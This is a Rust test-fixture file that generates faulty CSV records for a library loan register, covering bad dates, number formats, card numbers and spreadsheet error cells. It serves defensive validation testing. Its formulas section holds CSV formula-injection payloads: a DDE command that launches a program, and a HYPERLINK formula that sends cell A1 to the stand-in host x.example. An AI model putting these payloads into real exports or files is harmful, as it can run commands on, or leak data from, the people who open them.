//! Values that are wrong: dates, numbers, codes, formulas.

use super::super::fixture::csv;
use super::Entry;

type Faults = &'static [(u64, &'static str, &'static str)];

/// A file of one record, of which one value is at stake.
fn value(what: &'static str, line: &str, faults: Faults) -> Entry {
    let staged: &'static [u64] = if faults.is_empty() { &[2] } else { &[] };
    Entry::kept(what, "noord.csv", csv(&format!("{line}\n")), staged, faults)
}

fn date(what: &'static str, date: &str, faults: Faults) -> Entry {
    value(what, &format!(";A;{date};;;"), faults)
}

fn copies(what: &'static str, number: &str, faults: Faults) -> Entry {
    value(what, &format!(";A;;{number};;"), faults)
}

fn fine(what: &'static str, number: &str, faults: Faults) -> Entry {
    value(what, &format!(";A;;;{number};"), faults)
}

pub(super) fn entries() -> Vec<Entry> {
    [dates(), numbers(), texts(), formulas()].into_iter().flatten().collect()
}

fn dates() -> Vec<Entry> {
    vec![
        date("29 February of a leap year", "29-02-2008", &[]),
        date("29 February of another year", "29-02-2007", &[(2, "borrowed", "no_such_date")]),
        date("29 February 1900, which spreadsheets have", "29-02-1900", &[(2, "borrowed", "no_such_date")]),
        date("30 February", "30-02-2008", &[(2, "borrowed", "no_such_date")]),
        date("31 April", "31-04-2008", &[(2, "borrowed", "no_such_date")]),
        date("nothing but noughts", "0000-00-00", &[(2, "borrowed", "year_out_of_range")]),
        date("the year nought", "01-01-0000", &[(2, "borrowed", "year_out_of_range")]),
        date("the year 10000", "01-01-10000", &[(2, "borrowed", "not_a_date")]),
        date("a date of another century", "01-01-1089", &[(2, "borrowed", "year_out_of_range")]),
        date("a far future", "01-01-2999", &[(2, "borrowed", "year_out_of_range")]),
        date("a serial day of a spreadsheet", "32873", &[(2, "borrowed", "not_a_date")]),
        date("a year of two digits", "31-12-89", &[]),
        date("a year of three digits", "31-12-989", &[(2, "borrowed", "not_a_date")]),
        date("month before day", "12/31/1989", &[(2, "borrowed", "day_month_swapped")]),
        date("a time of day", "31-12-1989 10:30", &[(2, "borrowed", "time_of_day")]),
        date("a date without separators", "19891231", &[(2, "borrowed", "not_a_date")]),
        date("a month without a day", "12-1989", &[(2, "borrowed", "not_a_date")]),
        date("an English month", "31 May 1989", &[(2, "borrowed", "not_a_date")]),
        date("digits of another script", "٣١-١٢-١٩٨٩", &[(2, "borrowed", "not_a_date")]),
    ]
}

fn numbers() -> Vec<Entry> {
    vec![
        copies("a thousands point", "1.234", &[]),
        copies("a comma that may be either", "1,234", &[(2, "copies", "ambiguous_number")]),
        copies("a decimal comma in a whole number", "1,5", &[(2, "copies", "not_whole")]),
        fine("a decimal comma", "1.234,50", &[]),
        fine("a decimal point", "1234.50", &[(2, "fine", "not_a_number")]),
        fine("English notation", "1,234.50", &[(2, "fine", "not_a_number")]),
        fine("points in the wrong places", "12.34.567", &[(2, "fine", "not_a_number")]),
        fine("an apostrophe between thousands", "1'234", &[(2, "fine", "not_a_number")]),
        fine("more decimals than are kept", "0,1234567", &[(2, "fine", "too_many_decimals")]),
        fine("a currency sign", "€ 5", &[(2, "fine", "not_a_number")]),
        copies("a number of 20 digits", "99999999999999999999", &[(2, "copies", "number_out_of_range")]),
        fine("a decimal number of 13 digits", "9999999999999", &[(2, "fine", "number_out_of_range")]),
        copies("no number", "NaN", &[(2, "copies", "not_a_number")]),
        copies("infinity", "inf", &[(2, "copies", "not_a_number")]),
        copies("an exponent", "1e400", &[(2, "copies", "not_a_number")]),
        copies("noughts in front", "007", &[]),
        copies("a number in hexadecimal", "0x1F", &[(2, "copies", "not_a_number")]),
    ]
}

fn texts() -> Vec<Entry> {
    vec![
        value("a nought in front of a card number", "0612345678;A;;;;", &[]),
        value("a card number that lost its nought", "612345678;A;;;;", &[(2, "card", "pattern_mismatch")]),
        value("a card number that became an exponent", "6,12E+08;A;;;;", &[(2, "card", "pattern_mismatch")]),
        value("a card number of signs", "***;A;;;;", &[(2, "card", "empty_after_cleaning")]),
        value("a missing value that is required", ";;31-12-1989;;;", &[(2, "title", "missing_required")]),
        value("neither yes nor no", ";A;;;;misschien", &[(2, "returned", "not_a_boolean")]),
        value("an error of a spreadsheet", ";#N/A;;;;", &[(2, "title", "error_cell")]),
        value("a Dutch error of a spreadsheet", ";A;;#DEEL/0!;;", &[(2, "copies", "error_cell")]),
        value("a column that was too narrow", ";########;;;;", &[(2, "title", "error_cell")]),
        Entry::kept(
            "a code that is in no list",
            "noord.csv",
            "Card;Title;Date borrowed;Copies;Returned;Shelf\n;A;;;;vak  a\n;B;;;;vak b\n",
            &[2],
            &[(3, "shelf", "unknown_code")],
        ),
        value(
            "every fault at once",
            "1;;31-02-1988;1,234;1.5;x",
            &[
                (2, "card", "pattern_mismatch"),
                (2, "title", "missing_required"),
                (2, "borrowed", "no_such_date"),
                (2, "copies", "ambiguous_number"),
                (2, "fine", "not_a_number"),
                (2, "returned", "not_a_boolean"),
            ],
        ),
    ]
}

/// A formula is a text like any other until a spreadsheet opens it: exports see to that. No typed column takes one.
fn formulas() -> Vec<Entry> {
    vec![
        value("a command", ";=cmd|' /C calc'!A0;;;;", &[]),
        value(
            "a link that takes the row along",
            ";\"=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"here\"\")\";;;;",
            &[],
        ),
        value("a formula behind a plus", ";+1+2;;;;", &[]),
        value("a formula behind a minus", ";-1+2;;;;", &[]),
        value("a formula behind an at", ";@SUM(A1:A9);;;;", &[]),
        value("a formula behind a tab", ";\t=1+2;;;;", &[]),
        value("a formula in place of a number", ";A;;=1+2;;", &[(2, "copies", "not_a_number")]),
        value("a formula in place of a date", ";A;=TODAY();;;", &[(2, "borrowed", "not_a_date")]),
    ]
}
